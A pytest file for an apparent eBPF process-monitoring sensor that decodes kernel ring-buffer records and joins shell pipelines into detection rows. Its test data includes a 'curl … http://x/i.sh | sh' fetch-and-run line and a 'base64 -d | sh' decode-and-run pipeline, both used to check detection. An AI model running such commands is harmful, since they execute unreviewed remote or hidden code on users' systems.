"""Decoding process.bpf.c's ring-buffer records, built here byte by byte, and turning them into rows."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from vigil.agent.sensors.bpf_events import (
    ARGV_TRUNCATED,
    HEADER,
    BadRecord,
    Kind,
    command_line,
    decode,
    path_from_leaf_first,
)
from vigil.agent.sensors.process_ebpf import KernelRows
from vigil.agent.sensors.procfs import HashCache, ProcessInfo


def record(kind: int, pid: int, *, ppid: int = 100, ts: int = 5_000_000_000, start: int = 4_000_000_000,
           uid: int = 1000, exit_code: int = 0, flags: int = 0, comm: bytes = b"true",
           exe: bytes = b"", argv: bytes = b"", cwd: bytes = b"", pgid: int = 0,
           fds: tuple[tuple[int, int, int], ...] = ((0, 0, 0),) * 3) -> bytes:
    """A record as the kernel side writes it: header, then exe, argv and cwd bytes back to back."""
    head = HEADER.pack(ts, start, kind, pid, pid, ppid, uid, uid, uid, exit_code, flags,
                       len(exe), len(argv), len(cwd), 0, comm, pgid, *(v for fd in fds for v in fd))
    return head + exe + argv + cwd


def test_the_header_is_the_kernel_structs_136_bytes() -> None:
    assert HEADER.size == 136  # sizeof(struct vigil_event) in process.bpf.c


def test_exec_record_decodes_path_argv_and_cwd() -> None:
    rec = record(Kind.EXEC, 4242, exe=b"true\0bin\0usr\0", argv=b"/bin/true\0--flag=a b\0x\0",
                 cwd=b"work\0home\0")
    ev = decode(rec)
    assert ev.kind is Kind.EXEC
    assert (ev.pid, ev.ppid, ev.uid, ev.comm) == (4242, 100, 1000, "true")
    assert (ev.timestamp_ns, ev.start_ns) == (5_000_000_000, 4_000_000_000)
    assert ev.exe == "/usr/bin/true"
    assert ev.command_line == "/bin/true '--flag=a b' x"
    assert ev.cwd == "/home/work"
    assert not ev.argv_truncated


def test_truncated_argv_keeps_the_partial_last_argument_and_says_so() -> None:
    ev = decode(record(Kind.EXEC, 7, exe=b"x\0", argv=b"x\0abc\0de", flags=ARGV_TRUNCATED))
    assert ev.command_line == "x abc de"
    assert ev.argv_truncated


def test_empty_arguments_and_non_utf8_bytes_survive() -> None:
    assert command_line(b"printf\0\0end\0") == "printf '' end"
    assert path_from_leaf_first(b"caf\xe9\0tmp\0") == "/tmp/caf\udce9"
    assert path_from_leaf_first(b"") == ""


def test_fork_and_exit_records_are_bare_headers() -> None:
    fork = decode(record(Kind.FORK, 300, ppid=200, comm=b"sh"))
    assert (fork.kind, fork.pid, fork.ppid, fork.comm, fork.exe) == (Kind.FORK, 300, 200, "sh", "")
    ex = decode(record(Kind.EXIT, 300, exit_code=7 << 8))
    assert ex.kind is Kind.EXIT and ex.exit_code == 0x700


@pytest.mark.parametrize(("data", "message"), [
    (b"\0" * 135, "shorter than the 136-byte header"),
    (record(9, 1), "unknown record kind 9"),
    (record(Kind.EXEC, 1, exe=b"a\0")[:-1], "need 138 bytes, record has 137"),
    (record(Kind.FORK, 1) + b"extra", "need 136 bytes, record has 141"),
])
def test_malformed_records_say_what_is_wrong(data: bytes, message: str) -> None:
    with pytest.raises(BadRecord, match=message):
        decode(data)


def _kernel_rows() -> KernelRows:
    parent = ProcessInfo(pid=100, ppid=1, exe="/usr/bin/python3", command_line="python3 t.py", uid=0,
                         account="root", start_time=1000.0, sha256="aa")
    known = {100: parent, 1: ProcessInfo(pid=1, ppid=0, exe="/sbin/init", command_line="/sbin/init")}
    return KernelRows(exit_events=True, hashes=HashCache(), read=lambda pid: known.get(pid, ProcessInfo(pid=pid)))


def test_fork_exec_exit_become_created_and_terminated_rows(tmp_path: Path) -> None:
    exe = tmp_path / "tool"
    exe.write_bytes(b"\x7fELF pretend")
    leaf_first = b"\0".join(reversed(str(exe).encode().strip(b"/").split(b"/"))) + b"\0"
    k = _kernel_rows()
    records = [
        record(Kind.FORK, 200, ppid=100, comm=b"python3"),
        record(Kind.EXEC, 200, ppid=100, exe=leaf_first, argv=b"tool\0--x y\0", cwd=b"tmp\0"),
        record(Kind.EXIT, 200, ppid=100, exit_code=3 << 8),
    ]
    rows, bad = k.feed(records, now=1.0)
    assert bad == []
    assert [r["ActionType"] for r in rows] == ["ProcessCreated", "ProcessTerminated"]
    created, ended = rows
    assert created["ProcessCommandLine"] == "tool '--x y'"
    assert created["FolderPath"] == str(exe) and created["FileName"] == "tool"
    assert created["SHA256"] == hashlib.sha256(b"\x7fELF pretend").hexdigest()
    assert created["ProcessCurrentWorkingDirectory"] == "/tmp"
    assert created["ProcessPosixUserId"] == 1000
    assert created["InitiatingProcessId"] == 100 and created["InitiatingProcessCommandLine"] == "python3 t.py"
    assert created["InitiatingProcessParentFileName"] == "init"
    assert created["AdditionalFields"] == {"Source": "ebpf"}
    assert created["ProcessStdin"] == "none" and created["ProcessGroupId"] is None
    assert ended["ProcessId"] == 200 and ended["AdditionalFields"] == {"ExitCode": 3, "Signal": 0}
    assert ended["ProcessCommandLine"] == "tool '--x y'"
    assert k.tracker.info(200) is not None and k.tracker.info(200).command_line == "tool '--x y'"  # type: ignore[union-attr]


def test_a_fork_that_never_execs_is_known_to_its_children_but_not_reported() -> None:
    k = _kernel_rows()
    rows, _ = k.feed([
        record(Kind.EXEC, 150, ppid=100, exe=b"true\0", argv=b"true\0"),  # 100 is described for this row
        record(Kind.FORK, 300, ppid=100),
        record(Kind.EXEC, 301, ppid=300, exe=b"true\0", argv=b"true\0"),
        record(Kind.EXIT, 300, ppid=100),
    ], now=1.0)
    assert [(r["ActionType"], r["ProcessId"]) for r in rows] == [("ProcessCreated", 150), ("ProcessCreated", 301)]
    assert rows[1]["InitiatingProcessId"] == 300
    assert rows[1]["InitiatingProcessCommandLine"] == "python3 t.py"  # the fork runs its parent's image
    assert rows[1]["InitiatingProcessParentId"] == 100


def test_a_bad_record_is_returned_and_the_rest_of_the_batch_still_counts() -> None:
    k = _kernel_rows()
    rows, bad = k.feed([record(Kind.EXEC, 1, exe=b"a\0")[:-1], record(Kind.EXEC, 400, exe=b"true\0",
                                                                      argv=b"true\0", flags=ARGV_TRUNCATED)],
                     now=1.0)
    assert len(bad) == 1 and "record has 137" in str(bad[0])
    assert [r["ProcessId"] for r in rows] == [400]
    assert rows[0]["AdditionalFields"] == {"Source": "ebpf", "CommandLineTruncated": True}


def _fd(mode: int, ino: int = 0, rdev: int = 0) -> tuple[int, int, int]:
    """One of fds 0-2 as the header holds it: (inode, rdev, mode); 0o010600 is a FIFO, 0o020620 a tty."""
    return (ino, rdev, mode)


def test_a_typed_pipeline_with_a_builtin_becomes_one_joined_row() -> None:
    """`echo … | base64 -d | sh` in an interactive bash (pid 100): the echo runs in a forked bash (300, the
    group leader) that never execs; base64 and sh exec with their stdin and stdout on the pipes."""
    tty = _fd(0o020620, 7, 136 << 20 | 4)
    k = _kernel_rows()
    rows, bad = k.feed([
        record(Kind.FORK, 300, ppid=100), record(Kind.FORK, 301, ppid=100), record(Kind.FORK, 302, ppid=100),
        record(Kind.EXEC, 301, ppid=100, pgid=300, exe=b"base64\0bin\0", argv=b"base64\0-d\0",
               fds=(_fd(0o010600, 11), _fd(0o010600, 12), tty)),
        record(Kind.EXIT, 300, ppid=100, pgid=300, comm=b"bash", fds=(tty, _fd(0o010600, 11), tty)),
        record(Kind.EXEC, 302, ppid=100, pgid=300, exe=b"dash\0bin\0", argv=b"sh\0",
               fds=(_fd(0o010600, 12), tty, tty)),
    ], now=1.0)
    assert bad == []
    base64, sh = (r for r in rows if r["ActionType"] == "ProcessCreated")
    assert (base64["ProcessStdin"], base64["ProcessStdout"], base64["ProcessStderr"]) == \
        ("pipe:11", "pipe:12", "tty:/dev/pts/4")
    assert sh["ProcessGroupId"] == 300
    assert k.pipelines.expire(1.5) == []  # inside the window
    (joined,) = k.pipelines.expire(2.1)
    assert joined["ActionType"] == "PipelineCreated"
    assert joined["ProcessCommandLine"] == "[bash builtin] | base64 -d | sh"
    assert [m["ProcessId"] for m in joined["PipelineMembers"]] == [300, 301, 302]
    assert joined["PipelineMembers"][0]["Builtin"] is True and joined["ProcessId"] == 302
    assert joined["InitiatingProcessId"] == 100


def test_unconnected_siblings_and_pipelines_already_in_the_parents_command_line_are_not_joined() -> None:
    from vigil.agent.sensors.pipeline import Member, PipelineJoiner, Stdio, joined_row

    j = PipelineJoiner(window=0.5)
    p1, p2, p3 = Stdio("pipe", "1"), Stdio("pipe", "2"), Stdio("pipe", "3")
    tty = Stdio("tty", "/dev/pts/0")
    base = {"Timestamp": "2026-01-01T00:00:00Z", "InitiatingProcessCommandLine": "bash -i"}
    j.executed({**base, "ProcessId": 1, "ProcessCommandLine": "cat a", "FileName": "cat"}, 9, 1, tty, p1, 0.0)
    j.executed({**base, "ProcessId": 2, "ProcessCommandLine": "wc -l", "FileName": "wc"}, 9, 1, p2, tty, 0.0)
    j.executed({**base, "ProcessId": 3, "ProcessCommandLine": "ls", "FileName": "ls"}, 9, 1, tty, tty, 0.0)
    assert j.expire(1.0) == []  # 1 writes pipe 1, 2 reads pipe 2: not one pipeline
    in_parent = {**base, "InitiatingProcessCommandLine": "sh -c 'curl -s http://x/i.sh | sh'"}
    chain = [Member(5, 4, 4, tty, p3, 0.0, {**in_parent, "ProcessCommandLine": "curl -s http://x/i.sh"}),
             Member(6, 4, 4, p3, tty, 0.0, {**in_parent, "ProcessCommandLine": "sh", "FileName": "dash"})]
    assert joined_row(chain) is None
